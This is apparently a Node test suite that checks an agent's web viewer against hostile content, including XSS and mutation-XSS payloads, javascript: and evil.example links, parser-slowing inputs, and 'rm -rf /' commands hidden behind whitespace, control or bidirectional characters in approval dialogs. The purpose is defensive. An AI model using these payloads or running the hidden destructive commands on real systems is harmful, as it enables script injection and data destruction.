// Hostile contents, each the answer to a prompt: nothing runs, nothing is loaded, nothing freezes, and a question shows
// all of what it asks.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { patience, startBrowser, startServer } from "./harness.mjs";

const ran = "globalThis.ran=1";

const KB = 1024;
const MB = KB * KB;

// The server sends long texts in pieces, like an agent does.
const say = (text, chunk = 4096) => [{ say: { text, chunk } }];
const tool = (args, output = "done", name = "bash") => [{ tool: { name, args, output } }];
const many = (text, times) => text.repeat(times);
const deep = (depth) => many('{"a":[', depth) + many("]}", depth);
const rows = (count, row) => Array.from({ length: count }, (_, i) => row(i)).join("\n");
/** long is a text of more than 1 MB. */
const long = (text, what = (t) => ({ say: t })) => [
  { repeat: { times: Math.ceil(MB / (32 * KB)), steps: [what(many(text, (32 * KB) / text.length))] } },
];
/**
 * An approval shows some texts as soon as it is open, and one at its end. With count it says how long it is.
 */
const approval = (args, shown, more = {}) => ({ ask: "approval", args, shown, ...more });
const command = (text, shown, more) => approval({ command: text }, shown, more);
const form = (requestedSchema, shown, more = {}) => ({
  ask: "mcp_elicitation",
  args: { serverName: "forms", message: "Please fill this in.", requestedSchema },
  shown,
  ...more,
});
const fields = (count, field) =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`f${i}`, { title: `Field ${i}`, ...field(i) }]));

/** Each content is steps of the script, or a question and the texts that it must show. */
const contents = {
  // scripts
  "script": say(`<script>${ran}</script>`),
  "script in capitals": say(`<ScRiPt>${ran}</sCrIpT>`),
  "image with a handler": say(`<img src=x onerror=${ran}>`),
  "handlers without end": say(many(`<img src=x onerror=${ran} `, 500)),
  "svg": say(`<svg onload=${ran}><script>${ran}</script><animate onbegin=${ran} attributeName=x></svg>`),
  "mathml": say(`<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;"></math>`),
  "mutation of a form": say(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`),
  "mutation of a table": say(`<table><a><style><!--</style><a id="--><img src=1 onerror=${ran}>"></table>`),
  "noscript": say(`<noscript><p title="</noscript><img src=x onerror=${ran}>">`),
  "template": say(`<template><script>${ran}</script></template><slot onslotchange=${ran}>`),
  "comment": say(`<!--><img src=x onerror=${ran}>--> <!-- --!><script>${ran}</script> -->`),
  "cdata": say(`<![CDATA[<script>${ran}</script>]]><?xml-stylesheet href="https://evil.example/a.css"?>`),
  "frame": say(`<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data=https://evil.example/></object>`),
  "base and meta":
    say(`<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">`),
  "style":
    say(`<style>@import "https://evil.example/a.css";*{display:none!important}</style><p style="position:fixed">x</p>`),
  "details and dialog":
    say(`<details open ontoggle=${ran}><dialog open><form action=https://evil.example/><input autofocus onfocus=${ran}>`),
  "clobbered names": say(`<a id=location></a><form id=violations name=body><input name=attributes></form>`),
  "raw text in code": say(`\`\`\`html\n</code></pre><script>${ran}</script>\n\`\`\``),
  "language of code": say(`\`\`\`"><img/src=x/onerror=${ran}>\ncode\n\`\`\``),
  "entities": say(`&lt;script&gt;${ran}&lt;/script&gt; &#60;img src=x onerror=${ran}&#62;`),
  // links and images
  "script links": say(`[a](javascript:${ran}) [b](JaVaScRiPt:${ran}) [c](java\tscript:${ran}) <javascript:${ran}>`),
  "encoded script links": say(`[a](&#106;avascript:${ran}) [b](\u0001javascript:${ran}) [c](javascript&colon;${ran})`),
  "data links":
    say(`[a](data:text/html,<script>opener.ran=1</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)`),
  "reference links": say(`[a][1] ![b][1]\n\n[1]: javascript:${ran} "t' onclick=${ran}"`),
  "attributes in links":
    say(`[a](https://a.example/"onmouseover="${ran}) ![x"onerror="${ran}](https://evil.example/i.png)`),
  "images from elsewhere":
    say(`![a](https://evil.example/?secret) ![b](//evil.example/x) ![c](/api/headless/sessions)`),
  "huge data image": say(`![a](data:image/png;base64,${many("A", 200_000)})`),
  // shapes that make parsers slow
  "quotes in quotes": say(`${many("> ", 1000)}deep`),
  "emphasis": say(many("*a _b ", 4000)),
  "brackets": say(many("[", 30_000)),
  "links in links": say(many("[a](", 8000)),
  "images in links": say(many("![[", 8000)),
  "backticks": say(Array.from({ length: 400 }, (_, i) => many("`", i + 1)).join(" ")),
  "angles": say(many("<a ", 20_000)),
  "open comments": say(many("<!--", 12_000)),
  "tildes and fences": say(many("~~~\n", 4000)),
  "spaces": say(`a${many(" ", 100_000)}b`),
  "spaces in a heading": say(`# a${many(" #", 20_000)}b`),
  "line ends": say(`a${many("\n", 100_000)}b`),
  "reference definitions": say(Array.from({ length: 3000 }, (_, i) => `[r${i}]: https://a.example/${i}`).join("\n")),
  "lists in lists": say(rows(500, (i) => `${many("  ", i)}- a`)),
  "lists on one line": say(many("- ", 5000)),
  "a list of 20,000": say(rows(20_000, (i) => `${i}. a`)),
  "table of 10,000 lines": say(`| a | b | c |\n|---|---|---|\n${rows(10_000, (i) => `| ${i} | *b* | [c](https://a.example) |`)}`),
  "table of 1,000 columns": say(rows(20, (i) => (i === 1 ? many("|-", 1000) : many("| a ", 1000)))),
  "asterisks": say(many("*", 30_000)),
  "underlines and letters": say(many("_a*", 10_000)),
  "almost addresses": say(many("a.b-", 10_000)),
  "10,000 links": say(many("[a](https://a.example/b) ", 10_000)),
  "10,000 addresses": say(many("https://a.example a@b.example ", 10_000)),
  "entities without end": say(many("&amp", 20_000)),
  "lazy quotations": say(rows(10_000, () => "> a\nb")),
  // texts
  "a million chunks": [{ repeat: { times: 1_000_000, steps: [{ say: "a " }] } }],
  "line of 1 MB": long("many words "),
  "word of 1 MB": long("word"),
  "word of 1 MB in code": [{ say: "```js\n" }, ...long("word"), { say: "\n```\n" }],
  "1 MB of lines in code": [{ say: "```js\n" }, ...long("a\n"), { say: "```\n" }],
  "1 MB of characters that combine": long("e\u0301\u0302\u0323"),
  "100 KB in two directions": say(many("\u05d0\u202ea\u0661 ", 20_000)),
  "1 MB of thoughts": long("so\n\n", (t) => ({ think: t })),
  "directions": say(`\u202e\u2066\u2067 reversed \u200b\u200d\ufeff ${many("\u0301", 5000)}`),
  "characters of control": say("a\u0000b\u0007c\u001b[2Jd\u009be\u2028f"),
  // calls
  "names of files": tool({ path: "a\u202e/\u0007\n../<img src=x onerror=1>/\u0430dmin" }, "", "read"),
  "name of a tool": tool({ x: 1 }, "<script>globalThis.ran=1</script>", `<img src=x onerror=${ran}>`),
  "keys of arguments": tool(JSON.parse(`{"__proto__":{"x":1},"constructor":"<b>","<img src=x onerror=${ran}>":1}`)),
  "deep arguments in a text": tool({ json: deep(10_000) }, deep(10_000)),
  "change of a long line":
    tool({ path: "a", old_string: many("ab", 30_000), new_string: many("ba", 30_000) }, "", "edit"),
  "change of 12,000 lines": tool(
    { path: "a", old_string: rows(12_000, (i) => `a ${i}`), new_string: rows(12_000, (i) => `b ${i}`) },
    "",
    "edit",
  ),
  "change of every second line": tool(
    { path: "a", old_string: rows(6000, (i) => `line ${i}`), new_string: rows(6000, (i) => `line ${i} ${i % 2}`) },
    "",
    "edit",
  ),
  "2,000 arguments": tool(Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`key${i}`, `value ${i}`]))),
  "path of 100 KB": tool({ path: many("a/", 50_000), old_string: "a", new_string: "b" }, "", "edit"),
  "10,000 reads": [{ repeat: { times: 10_000, steps: [{ tool: { name: "read", args: { path: "/a/{{n}}" }, output: "" } }] } }],
  "output of control sequences": tool({ command: "x" }, many("\u001b[31;1m\u001b[2J\u001b[999;999H\u0007a", 8000)),
  "output of 500 KB in one line": tool({ command: "x" }, many("a b", 170_000)),
  "output of 500 KB of lines": tool({ command: "x" }, many("a\n", 250_000)),
  "error of 100 KB": [{ error: { message: many("failed ", 14_000), type: "tool" } }],
  // questions
  "command after blanks": command(`true${many(" ", 100_000)}; rm -rf /`, ["true", "100,000 spaces", "; rm -rf /"]),
  "command after tabs": command(`true${many("\t", 100_000)}; rm -rf /`, ["true", "100,000 tabs", "; rm -rf /"]),
  "command after 20,000 line ends": command(`true${many("\n", 20_000)}rm -rf /`, [
    "true",
    "19,999 empty lines",
    "rm -rf /",
  ]),
  "command after 20,000 lines of blanks": command(`true${many("\n \t", 20_000)}\nrm -rf /`, [
    "true",
    "20,000 empty lines",
    "rm -rf /",
  ]),
  "command after 20,000 comments": command(`true${many("\n#", 20_000)}\nrm -rf /`, ["true"], {
    extent: "20,002 lines",
    last: "rm -rf /",
  }),
  "command after 100 KB": command(`echo ${many("words ", 17_000)}; rm -rf /`, ["echo words"], {
    extent: "1 line, 102,015 characters",
    last: "; rm -rf /",
  }),
  "command after a word of 100 KB": command(`echo ${many("word", 25_000)}; rm -rf /`, ["echo word"], {
    extent: "1 line",
    last: "; rm -rf /",
  }),
  "command behind a return": command("rm -rf /\recho hello", ["rm -rf /U+000Decho hello"]),
  "command behind directions": command("echo \u202e\u2066# rm -rf /\u2069", ["echo U+202EU+2066# rm -rf /U+2069"]),
  "command among 10,000 hidden characters": command(`true${many("\u200b", 10_000)}; rm -rf /`, [
    "true",
    "U+200B × 10,000",
    "; rm -rf /",
  ]),
  "command among 20,000 different hidden characters": command(
    `true${many("\u200b\u202e", 10_000)}; rm -rf /`,
    ["true", "U+200BU+202E"],
    { extent: "1 line", last: "; rm -rf /" },
  ),
  "command with control sequences": command(`true\u001b[2K\u001b[1A; rm -rf /${many("\u001b[8m", 5000)}`, [
    "trueU+001B[2KU+001B[1A; rm -rf /",
  ]),
  "command with lookalikes": command("/usr/b\u0456n/l\u0455", ["/usr/b"]),
  "command with markup": command(`<img src=x onerror=${ran}></pre><b>`, [`<img src=x onerror=${ran}></pre><b>`]),
  "command of 5,000 arguments": command(rows(5000, (i) => `--flag-${i} \\`) + "\n; rm -rf /", ["--flag-0"], {
    extent: "5,001 lines",
    last: "; rm -rf /",
  }),
  "approval of 2,000 arguments": approval(
    { command: "ls", ...Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`key${i}`, `value ${i}`])) },
    ["ls", "2,000 arguments", "value 0"],
    { last: "value 1999" },
  ),
  "approval of deep arguments": approval({ a: JSON.parse(deep(40)), b: many("x", 50_000) + "the end" }, ['{"a":[{"a":['], {
    last: "the end",
  }),
  "approval of a change of 8,000 lines": {
    ...approval({ path: "a", old_string: "x", new_string: rows(8000, (i) => `line ${i}`) + "\n; rm -rf /" }, ["line 0"]),
    tool: "edit",
    last: "; rm -rf /",
  },
  "approval of a path of 100 KB": {
    ...approval({ path: many("a/", 50_000) + "passwd", old_string: "a", new_string: "b" }, ["1 line, 100,006 characters"]),
    tool: "edit",
    last: "/passwd",
  },
  "form of 500 fields": form({ type: "object", properties: fields(500, () => ({ type: "string" })) }, ["Field 0"], {
    last: "Field 499",
  }),
  "form of 10,000 choices": form(
    { type: "object", properties: fields(2, () => ({ enum: Array.from({ length: 10_000 }, (_, i) => `c${i}`) })) },
    ["Field 0", "c0"],
    { last: "c9999" },
  ),
  "form with an expression that takes forever": {
    ...form({ type: "object", properties: { a: { type: "string", title: "Name", pattern: "^(a+)+$" } } }, ["Must match ^(a+)+$"]),
    type: many("a", 50) + "!",
  },
  "form of texts of 50 KB": form(
    { type: "object", properties: fields(3, () => ({ type: "string", description: many("describe ", 5000) + "the end" })) },
    ["Field 0"],
    { last: "the end" },
  ),
  "form of a deep schema": form(JSON.parse(deep(50)), ['{"a":[{"a":[']),
  "question of 2,000 options": {
    ask: "user_input",
    args: {
      questions: [
        { header: "Q", question: many("Which one? ", 1000), options: Array.from({ length: 2000 }, (_, i) => ({ label: `option ${i}` })) },
      ],
    },
    shown: ["Which one?", "option 0"],
    last: "option 1999",
  },
};

const end = "This content is over.";
const names = Object.keys(contents);

/** script makes each content the answer to the prompt with its number. */
function script() {
  const prompts = names.map((name, i) => {
    const content = contents[name];
    const steps = Array.isArray(content)
      ? content
      : [{ ask: { type: content.ask, tool: content.tool ?? "bash", args: content.args, reason: "?", timeout_ms: -1 } }];
    return { match: `content ${i}.`, steps: [...steps, { say: `\n\n${end}` }] };
  });
  return JSON.stringify({ prompts });
}

/** Pages that play a content each. Every one has a session and a browser context of its own. */
const pages = 2;
const idle = [];
let browser;
let server;
let folder;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), "maestro-hostile-"));
  const file = join(folder, "script.json");
  writeFileSync(file, script());
  server = await startServer(["--agent", `script:${file}`]);
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  await server?.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

async function openPage() {
  const { session_id } = await server.call("POST", "/api/headless/sessions", { role: "viewer" });
  const p = await browser.open(await server.link());
  await p.page.evaluate((id) => (location.hash = `#session=${id}`), session_id);
  p.foreign = [];
  p.page.on("request", (r) => {
    if (!r.url().startsWith(server.url)) p.foreign.push(r.url());
  });
  p.context.on("page", (other) => p.foreign.push(`a page: ${other.url()}`));
  await p.page.evaluate(() => {
    globalThis.longest = 0;
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) globalThis.longest = Math.max(globalThis.longest, e.duration);
    }).observe({ type: "longtask" });
  });
  return p;
}

/** play sends the prompt of a content, looks at what the page shows, and returns the longest task in ms. */
async function play(p, i) {
  const { page } = p;
  const content = contents[names[i]];
  await page.evaluate(() => (globalThis.longest = 0));
  await page.locator(".composer textarea").fill(`content ${i}.`);
  await page.locator(".composer textarea").press("Enter");
  if (!Array.isArray(content)) await answer(page, content);
  await page.waitForFunction(
    ([prompt, last]) => {
      const rows = [...document.querySelectorAll(".transcript .row")].map((r) => r.textContent);
      const newest = (text) => rows.findLastIndex((r) => r.includes(text));
      return rows.at(-1)?.includes(last) || newest(last) > newest(prompt);
    },
    [`content ${i}.`, end],
    { timeout: 5 * patience },
  );
  await page.locator('.transcript[aria-busy="false"]').waitFor();
  const line = page.locator("button.line");
  if (Array.isArray(content) && (await line.count()) > 0) await line.last().click();
  await harmless(page);
  await page.evaluate(async () => {
    // The lists draw only what is visible.
    const list = document.querySelector(".transcript");
    const frame = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    for (const part of document.querySelectorAll(".transcript .windowed")) {
      const scroller = part.parentElement;
      for (const at of [0.3, 0.6, 1]) {
        scroller.scrollTop = at * scroller.scrollHeight;
        await frame();
      }
    }
    for (let i = 0; i < 4; i++) {
      list.scrollTop -= list.clientHeight;
      await frame();
    }
    list.scrollTop /= 2;
    await frame();
    list.scrollTop = list.scrollHeight;
    await frame();
  });
  await harmless(page);
  return page.evaluate(() => globalThis.longest);
}

/** answer reads a question to its end and declines it. */
async function answer(page, { shown, extent, last, type }) {
  const question = page.locator(".question");
  await question.waitFor();
  for (const text of shown) await question.getByText(text).first().waitFor();
  await harmless(page);
  if (extent) await question.getByText(extent).first().waitFor();
  if (last) {
    // What is far away is drawn, and gets its height, when it comes near.
    await page.waitForFunction((last) => {
      const what = document.querySelector(".question .what");
      for (const p of [what, ...what.querySelectorAll(".list")]) p.scrollTop = p.scrollHeight;
      const texts = document.createTreeWalker(what, NodeFilter.SHOW_TEXT);
      const range = document.createRange();
      for (let n = texts.nextNode(); n; n = texts.nextNode()) {
        if (!n.data.endsWith(last)) continue;
        range.setStart(n, n.data.length - 1);
        range.setEnd(n, n.data.length);
        const [at, box] = [range.getBoundingClientRect(), what.getBoundingClientRect()];
        if (at.height > 0 && at.top >= box.top && at.bottom <= box.bottom) return true;
      }
      return false;
    }, last);
    await harmless(page);
  }
  if (type) {
    await question.locator("input.field").first().pressSequentially(type);
    await question.getByRole("button", { name: "Send", exact: true }).click();
  } else await question.getByRole("button", { name: /^(Deny|Decline|Do not answer)$/ }).first().click();
}

async function harmless(page) {
  const bad = await page.evaluate(() =>
    [...document.querySelectorAll(".transcript *, .question *")]
      .filter(
        (e) =>
          /^(img|script|iframe|object|embed|style|math|base|meta|template|dialog)$/i.test(e.tagName) ||
          (e.tagName === "A" && !/^(https?:|mailto:|#)/.test(e.getAttribute("href") ?? "#")) ||
          [...e.attributes].some((a) => /^on/i.test(a.name)),
      )
      .map((e) => e.outerHTML.slice(0, 100)),
  );
  assert.deepEqual(bad, []);
}

/** limit is the longest task that nobody notices as a freeze, in ms. */
const limit = 200;

/** slowdown is how many times longer work takes now because other programs have the processors. */
function slowdown() {
  const [from, cpu] = [performance.now(), process.cpuUsage()];
  while (performance.now() - from < 100);
  const { user, system } = process.cpuUsage(cpu);
  return Math.max(1, (performance.now() - from) / ((user + system) / 1000));
}

describe("hostile contents", { concurrency: pages, timeout: 20 * patience }, () => {
  for (const [i, name] of names.entries()) {
    test(name, async () => {
      const p = idle.pop() ?? (await openPage());
      const complained = (await p.complaints()).length;
      // Other work on the machine makes a task long by chance, and a content does it each time.
      const plays = [];
      do plays.push({ task: await play(p, i), allowed: limit * slowdown() });
      while (plays.at(-1).task > plays.at(-1).allowed && plays.length < 5);
      const { task, allowed } = plays.at(-1);
      if (process.env.TIMES) console.log(name, plays);
      assert.ok(task <= allowed, `the page froze: ${JSON.stringify(plays)}`);
      assert.equal(await p.page.evaluate(() => globalThis.ran), undefined, "a script ran");
      assert.deepEqual(p.foreign, [], "something was loaded");
      const all = await p.complaints();
      assert.deepEqual(all.slice(complained), [], "the page complained");
      idle.push(p);
    });
  }
});
